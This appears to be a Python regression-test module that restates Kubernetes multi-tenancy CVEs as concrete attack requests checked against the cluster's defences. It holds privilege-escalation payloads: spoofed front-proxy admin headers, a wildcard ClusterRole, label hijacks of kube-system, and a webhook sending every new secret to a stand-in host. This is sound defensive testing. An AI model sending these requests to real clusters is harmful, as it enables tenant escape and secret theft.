"""Published advisories of multi-tenancy on Kubernetes, each as the request that it allowed.

Of Capsule's advisories, those about its proxy and its controllers have no such program here; what is tried is the same
harm by the way that is left: straight at the API server, or with the credentials of what applies tenants' files.
"""

from __future__ import annotations

from tests.escape.attack import APPLY, MERGE, Attack, Request
from tests.escape.ground import GOOD, HOME, NODE, OTHER, OTHER_DOMAIN, here, ingress, made_of

_NAMESPACE = "/api/v1/namespaces/{}".format
_RBAC = "rbac.authorization.k8s.io"
_ADMISSION = "/apis/admissionregistration.k8s.io/v1"
_NODE = f"/api/v1/nodes/{NODE}"


_LOOSER = {"metadata": {"labels": {"pod-security.kubernetes.io/enforce": None}, "ownerReferences": None}}
_STOLEN = {"metadata": {"labels": {"gdcc.go.th/tenant": HOME.partition("-")[0]}}}
_NAMESPACES = ("rbac", "gdcc-namespaces")
_ASK = "stacks/agencies/"

_WEBHOOK = made_of(
    "admissionregistration.k8s.io/v1",
    "ValidatingWebhookConfiguration",
    webhooks=[
        {
            "name": "escape.example.org",
            "clientConfig": {"url": "https://escape.example.org"},
            "rules": [
                {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["secrets"]},
            ],
            "sideEffects": "None",
            "admissionReviewVersions": ["v1"],
        }
    ],
)
_EVERYTHING = made_of(f"{_RBAC}/v1", "ClusterRole", rules=[{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}])
_FINALIZED = {
    "apiVersion": "v1",
    "kind": "Namespace",
    "metadata": {"name": HOME, "labels": {"kubernetes.io/metadata.name": HOME, "gdcc.go.th/tenant": "t0000000"}},
    "spec": {"finalizers": ["kubernetes"]},
}

ATTACKS = (
    Attack(
        "a-tenant-takes-the-limits-off-its-own-namespace",
        "CVE-2022-46167",
        "tenant-admin",
        Request("PATCH", _NAMESPACE(HOME), _LOOSER, MERGE),
        _NAMESPACES,
        _ASK,
    ),
    Attack(
        "a-workload-takes-the-limits-off-its-own-namespace",
        "CVE-2022-46167",
        "workload",
        Request("PATCH", _NAMESPACE(HOME), _LOOSER, MERGE),
        _NAMESPACES,
        _ASK,
    ),
    Attack(
        "a-workload-lists-the-namespaces-of-all-tenants",
        "CVE-2023-46254",
        "workload",
        Request("GET", "/api/v1/namespaces"),
        ("rbac",),
        "namespaces",
    ),
    Attack(
        "a-workload-reads-where-a-service-account-of-the-same-name-is",
        "CVE-2023-46254",
        "workload",
        Request("GET", here("pods", OTHER)),
        ("rbac",),
        "pods",
    ),
    Attack(
        "an-empty-token-lists-namespaces",
        "CVE-2023-48312",
        "empty-token",
        Request("GET", "/api/v1/namespaces"),
        ("authentication",),
    ),
    Attack(
        "nobody-lists-namespaces",
        "CVE-2023-48312",
        "nobody",
        Request("GET", "/api/v1/namespaces"),
        ("authentication",),
    ),
    Attack(
        "headers-of-the-front-proxy-make-a-tenant-an-administrator",
        "CVE-2022-23652",
        "tenant-admin",
        Request(
            "GET",
            "/api/v1/nodes",
            headers={
                "X-Remote-User": "admin",
                "X-Remote-Group": "gdcc:cluster-admin",
                "Connection": "keep-alive, X-Remote-User, X-Remote-Group",
            },
        ),
        ("front-proxy",),
    ),
    Attack(
        "a-tenant-takes-over-a-namespace-that-has-no-owner",
        "CVE-2024-39690",
        "tenant-admin",
        Request("PATCH", _NAMESPACE("kube-public"), _STOLEN, MERGE),
        _NAMESPACES,
        _ASK,
    ),
    Attack(
        "a-tenant-labels-kube-system-as-its-own",
        "CVE-2025-55205",
        "tenant-admin",
        Request("PATCH", _NAMESPACE("kube-system"), _STOLEN, MERGE),
        _NAMESPACES,
        _ASK,
    ),
    Attack(
        "a-tenant-applies-a-label-to-kube-system",
        "CVE-2025-55205",
        "tenant-admin",
        Request(
            "PATCH",
            _NAMESPACE("kube-system"),
            made_of("v1", "Namespace", "kube-system", labels={"team": "ddc"}),
            APPLY,
        ),
        _NAMESPACES,
        _ASK,
    ),
    Attack(
        "a-tenant-changes-labels-through-the-status-of-a-namespace",
        "CVE-2026-30963",
        "tenant-admin",
        Request("PATCH", f"{_NAMESPACE(HOME)}/status", _LOOSER, MERGE),
        _NAMESPACES,
        _ASK,
    ),
    Attack(
        "a-tenant-changes-labels-through-the-finalizers-of-a-namespace",
        "GHSA-gwxr-7h77-7777",
        "tenant-admin",
        Request("PUT", f"{_NAMESPACE(HOME)}/finalize", _FINALIZED),
        _NAMESPACES,
        _ASK,
    ),
    Attack(
        "a-tenant-makes-a-cluster-role-that-may-do-everything",
        "CVE-2026-22872",
        "tenant-admin",
        Request("POST", f"/apis/{_RBAC}/v1/clusterroles", _EVERYTHING),
        ("rbac",),
        "clusterroles",
    ),
    Attack(
        "a-tenant-makes-a-webhook-that-reads-every-secret",
        "CVE-2026-22872",
        "tenant-admin",
        Request("POST", f"{_ADMISSION}/validatingwebhookconfigurations", _WEBHOOK),
        ("rbac",),
        "validatingwebhookconfigurations",
    ),
    Attack(
        "what-applies-tenants-files-is-made-to-apply-a-cluster-role",
        "CVE-2026-65835",
        "deployer",
        Request("POST", f"/apis/{_RBAC}/v1/clusterroles", _EVERYTHING),
        ("rbac",),
        "clusterroles",
    ),
    Attack(
        "what-applies-tenants-files-is-made-to-apply-a-webhook",
        "CVE-2026-65835",
        "deployer",
        Request("POST", f"{_ADMISSION}/validatingwebhookconfigurations", _WEBHOOK),
        ("rbac",),
        "validatingwebhookconfigurations",
    ),
    Attack(
        "a-forbidden-label-hides-between-capitals",
        "CVE-2026-61672",
        "developer",
        Request(
            "PATCH",
            here(f"services/{GOOD}"),
            {"metadata": {"labels": {"Zone": "a", "gdcc.go.th/tenant": "t0000000", "App": "b", "zebra": "c"}}},
            MERGE,
        ),
        ("gdcc-marks",),
        "choose a prefix of your own",
    ),
    Attack(
        "a-forbidden-annotation-is-written-in-capitals",
        "CVE-2026-61672",
        "tenant-admin",
        Request(
            "PATCH",
            here(f"ingresses/{GOOD}", group="networking.k8s.io"),
            {"metadata": {"annotations": {"nginx.ingress.kubernetes.io/Server-Snippet": "return 200;"}}},
            MERGE,
        ),
        ("gdcc-hostnames",),
        "ask the platform team",
    ),
    Attack(
        "a-forbidden-annotation-is-added-to-what-exists",
        "CVE-2026-61794",
        "developer",
        Request(
            "PATCH",
            here(f"services/{GOOD}"),
            {"metadata": {"annotations": {"external-dns.alpha.kubernetes.io/hostname": OTHER_DOMAIN}}},
            MERGE,
        ),
        ("gdcc-services",),
        "ask the platform team",
    ),
    Attack(
        "a-good-host-name-is-changed-into-another-tenants",
        "CVE-2026-61795",
        "tenant-admin",
        Request(
            "PATCH",
            here(f"ingresses/{GOOD}", group="networking.k8s.io"),
            {"spec": ingress(OTHER_DOMAIN)["spec"]},
            MERGE,
        ),
        ("gdcc-hostnames",),
        "use a name in the domains of this namespace",
    ),
    Attack(
        "a-node-gives-itself-an-owner-to-be-deleted-with",
        "CVE-2025-5187",
        "node",
        Request(
            "PATCH",
            _NODE,
            {
                "metadata": {
                    "ownerReferences": [
                        {
                            "apiVersion": "v1",
                            "kind": "Namespace",
                            "name": "gone",
                            "uid": "00000000-0000-0000-0000-000000000000",
                        }
                    ]
                }
            },
            MERGE,
        ),
        ("node-restriction",),
    ),
    Attack(
        "a-service-takes-the-traffic-of-an-address",
        "CVE-2020-8554",
        "developer",
        Request("PATCH", here(f"services/{GOOD}"), {"spec": {"externalIPs": ["203.0.113.10"]}}, MERGE),
        ("gdcc-services",),
        "stacks/agreements/",
    ),
    Attack(
        "the-status-of-a-service-takes-the-traffic-of-an-address",
        "CVE-2020-8554",
        "tenant-admin",
        Request("PATCH", here(f"services/{GOOD}/status"), {"metadata": {"annotations": {"note": "mine"}}}, MERGE),
        ("rbac", "gdcc-bounds"),
        "leave the status alone",
    ),
    Attack(
        "an-endpoint-slice-leads-a-gateway-to-another-tenant",
        "CVE-2021-25740",
        "tenant-admin",
        Request(
            "POST",
            here("endpointslices", group="discovery.k8s.io"),
            made_of(
                "discovery.k8s.io/v1",
                "EndpointSlice",
                labels={"kubernetes.io/service-name": GOOD},
                addressType="IPv4",
                endpoints=[{"addresses": ["10.0.0.1"]}],
            ),
        ),
        ("rbac", "gdcc-bounds"),
        "give the Service one",
    ),
)
